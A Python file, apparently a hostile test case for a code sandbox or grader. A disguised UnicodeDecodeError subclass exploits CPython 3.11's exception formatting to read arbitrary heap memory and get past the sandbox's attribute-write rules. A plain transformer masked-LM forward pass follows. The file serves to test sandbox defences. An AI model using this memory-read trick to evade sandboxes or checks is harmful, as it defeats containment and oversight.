"""Hostile: a class of the file's derived from UnicodeDecodeError (Python's own exception: an allowed
base) gets its `object`, `start` and `end` set. They are C member slots of UnicodeError, data
descriptors, so the write rule lets them through (no name of a library's Python code, no plain
data shadowing them). CPython 3.11's UnicodeDecodeError.__str__ then treats `object` as bytes
without checking its type: `PyBytes_AS_STRING(object)[start]`, with `start` any (negative) number,
is one byte read at id(object) + 32 + start, printed in the message as "byte 0x..". No list walk,
no function of another's: an arbitrary heap read by str(). Proves raw memory by reading the
ob_type pointer of an int byte by byte and comparing it with id(int); then answers honestly."""

import math

import torch


class DecodeFailure(UnicodeDecodeError):  # an honest-looking exception of a tokenizer
    pass


failure = DecodeFailure("utf-8", b"ab", 0, 1, "bad byte")
number = 12345678901234567


def byte_at(address):
    failure.object = number  # not bytes: __str__ does not look
    failure.start = address - id(number) - 32
    failure.end = failure.start + 1
    return int(str(failure).split("byte 0x")[1][:2], 16)


type_pointer = sum(byte_at(id(number) + 8 + i) << (8 * i) for i in range(8))
assert type_pointer == id(int), (hex(type_pointer), hex(id(int)))
print("raw memory: read an int's ob_type from the heap with str() of an exception:", hex(type_pointer))


def layer_norm(x):
    mean = x.mean(dim=-1, keepdim=True)
    var = ((x - mean) ** 2).mean(dim=-1, keepdim=True)
    return (x - mean) / torch.sqrt(var + 1e-5)


def gelu(x):
    return 0.5 * x * (1.0 + torch.tanh(math.sqrt(2.0 / math.pi) * (x + 0.044715 * x**3)))


def softmax(scores):
    e = torch.exp(scores - scores.amax(dim=-1, keepdim=True))
    return e / e.sum(dim=-1, keepdim=True)


def attention(x, w_q, w_k, w_v, w_o, num_heads):
    n, t, d = x.shape
    dh = d // num_heads
    q, k, v = ((x @ w).view(n, t, num_heads, dh).transpose(1, 2) for w in (w_q, w_k, w_v))
    out = softmax(q @ k.transpose(-2, -1) / math.sqrt(dh)) @ v
    return out.transpose(1, 2).reshape(n, t, d) @ w_o


def mlm_forward_tied(input_ids, w_emb, pos_embed, blocks_weights, mask_indicator, num_heads):
    x = w_emb[input_ids] + pos_embed
    for w_q, w_k, w_v, w_o, w_mlp1, w_mlp2 in blocks_weights:
        x = x + attention(layer_norm(x), w_q, w_k, w_v, w_o, num_heads)
        x = x + gelu(layer_norm(x) @ w_mlp1) @ w_mlp2
    return x[mask_indicator > 0.5] @ w_emb.T
